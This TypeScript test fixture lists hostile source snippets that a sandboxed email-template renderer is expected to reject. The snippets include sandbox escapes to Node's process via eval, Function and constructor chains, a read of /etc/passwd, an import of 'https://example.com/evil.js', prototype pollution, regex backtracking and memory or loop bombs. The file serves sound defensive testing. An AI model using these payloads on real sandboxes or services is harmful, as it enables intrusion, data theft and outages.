import { templateOf } from './renderer-client';

const body = (code: string) => templateOf(code).tsx;
const top = (code: string) => templateOf('return <b>Rendered</b>;', code).tsx;

/** Sources that must end in a problem, never in an email, and harm nobody. */
export const HOSTILE_SOURCES: Readonly<Record<string, string>> = {
  'an endless loop when it is loaded': top('for (;;);'),
  'an endless loop when it is rendered': body('while (true) {}'),
  'an endless loop in a getter': body('const trap = { get a() { for (;;); } }; return <b>{trap.a}</b>;'),
  'an endless loop in a proxy': body(
    'const trap = new Proxy({}, { get() { for (;;); } }) as any; return <b style={trap}>{trap.text}</b>;',
  ),
  'an endless loop in toString of a child': body('return <b title={{ toString() { for (;;); } } as any} />;'),
  'promises that beget promises': top('const next = (): Promise<void> => Promise.resolve().then(next); next();'),
  'an endless generator': body('function* all() { for (;;) yield 1; } return <b>{[...all()]}</b>;'),
  'an endless asynchronous generator': top(
    'async function* all() { for (;;) yield 1; } (async () => { for await (const one of all()); })();',
  ),
  'a growing array': body('const all: unknown[] = []; for (;;) all.push(new Array(1000).fill(1));'),
  'a growing string': body('let all = "x"; for (;;) all += all;'),
  'a string repeated too often': body('return <b>{"x".repeat(500_000_000)}</b>;'),
  'a typed array larger than the memory': body('return <b>{new Uint8Array(1_000_000_000).length}</b>;'),
  'many typed arrays': body('const all = []; for (;;) all.push(new Float64Array(100_000));'),
  'a giant integer': body('let n = 2n; for (;;) n = n ** 1000n;'),
  'a joined array of a billion holes': body('return <b>{new Array(1e9).join("x")}</b>;'),
  'a search through a giant array-like': body('Array.prototype.indexOf.call({ length: 2 ** 52 }, 1); return null;'),
  'a regular expression that backtracks for ever': body('return <b>{/^(a+)+$/.test("a".repeat(50) + "b")}</b>;'),
  'unbounded recursion': body('const deeper = (): number => deeper() + 1; return <b>{deeper()}</b>;'),
  'recursion of a component': body('const Deeper = (): any => <div><Deeper /></div>; return <Deeper />;'),
  'recursion in JSON.stringify': body(
    'let nest: unknown[] = []; for (let i = 0; i < 200_000; i += 1) nest = [nest]; return <b>{JSON.stringify(nest)}</b>;',
  ),
  'deeply nested JSX': body(`return ${'<b>'.repeat(15_000)}${'</b>'.repeat(15_000)};`),
  'elements that multiply': body(
    'let bomb: any = <i>x</i>; for (let i = 0; i < 40; i += 1) bomb = <b>{bomb}{bomb}</b>; return bomb;',
  ),
  'more output than a mail may have': body('return <b>{"x".repeat(2_000_000)}</b>;'),
  'output that its escaping blows up': body('return <b>{"<".repeat(400_000)}</b>;'),
  'process by the constructor of a constructor': body(
    'return <b>{([] as any).constructor.constructor("return process.pid")()}</b>;',
  ),
  'process by Function': body('return <b>{new Function("return process.env.HOME")()}</b>;'),
  'process by eval': body('return <b>{(0, eval)("process.versions.node")}</b>;'),
  'process by the global object': body('return <b>{(globalThis as any).process.mainModule.require("fs")}</b>;'),
  'process by the error of a stack trace': body(
    '(Error as any).prepareStackTrace = (_: unknown, frames: any) => frames; return <b>{(new Error().stack as any)[0].getThis().process.pid}</b>;',
  ),
  'our own functions': body('return <b>{(globalThis as any).vestibuleRealm.render.name}</b>;'),
  'a module of Node': top("import { readFileSync } from 'node:fs';\nconsole.log(readFileSync('/etc/passwd'));"),
  'a module that nothing uses': top("import fs from 'fs';"),
  'a module imported later': top("import('node:child_process').catch(() => {});"),
  'a module by its name in a variable': top("const name = 'node:' + 'fs'; import(name).then(() => {}, () => {});"),
  'a module by require': top("const fs = (require as any)('node:fs');"),
  'a module by require, with the error caught': top("try { (require as any)('node:fs'); } catch {}"),
  'a file beside it': top("import '../../../package.json';"),
  'a module from the network': top("import 'https://example.com/evil.js';"),
  'a package that is not there': top("import confetti from 'canvas-confetti';"),
  'a request by fetch': body('fetch("http://127.0.0.1/"); return null;'),
  'a request by XMLHttpRequest': body('new (globalThis as any).XMLHttpRequest(); return null;'),
  'a socket': body('new WebSocket("ws://127.0.0.1/"); return null;'),
  'a timer': body('setTimeout(() => {}, 1); return null;'),
  'something to wait on': body('Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); return null;'),
  'waiting for ever by a promise': body('throw new Promise(() => {});'),
  'an asynchronous component': 'export async function EmailTemplate() { return <b>late</b>; }',
  'a thrown null': body('throw null;'),
  'a thrown symbol': body('throw Symbol("s");'),
  'a thrown object whose toString throws': body('throw { toString() { throw this; } };'),
  'a thrown object whose toString never ends': body('throw { toString() { for (;;); } };'),
  'a thrown error whose members throw': body(
    'throw Object.defineProperty(new Error(), "message", { get() { throw new Error("again"); } });',
  ),
  'an error message of ten megabytes': body('throw new Error("x".repeat(10_000_000));'),
  'a getter that throws': body('return <b {...{ get title() { throw new Error("trap"); } }} />;'),
  'polluted prototypes': body(
    'Object.assign(Object.prototype, { href: "evil", children: "evil" }); Array.prototype.map = () => { throw new Error("evil"); }; throw new Error("polluted");',
  ),
  'a frozen realm': body(
    'for (const name of Object.getOwnPropertyNames(globalThis)) try { Object.freeze((globalThis as any)[name]?.prototype); Object.freeze((globalThis as any)[name]); } catch {} throw new Error("frozen");',
  ),
  'a changed React': body(
    '(React as any).createElement = () => "evil"; Object.prototype.toString = () => "evil"; throw new Error("changed");',
  ),
  'a broken JSON': body('JSON.stringify = () => "{"; JSON.parse = () => { for (;;); }; throw new Error("broken");'),
  'a name used twice': body('let x = 1; let x = 2; return <b>{x}</b>;'),
  'an unclosed element': body('return <b>;'),
  'brackets a hundred thousand deep': top(`const x = ${'['.repeat(100_000)}`),
  'an ambiguity that costs the compiler seconds': top(`const x = ${'a ? (b) : c => '.repeat(8000)}1;`),
  'comparisons that look like types': top(`const x = ${'a<b<'.repeat(5000)}1;`),
  'more source than there may be': top(`const x = ${JSON.stringify('x'.repeat(200_000))};`),
  'no component at all': 'export const x = 1;',
  'a component that is no function': 'export const EmailTemplate = 42;',
};
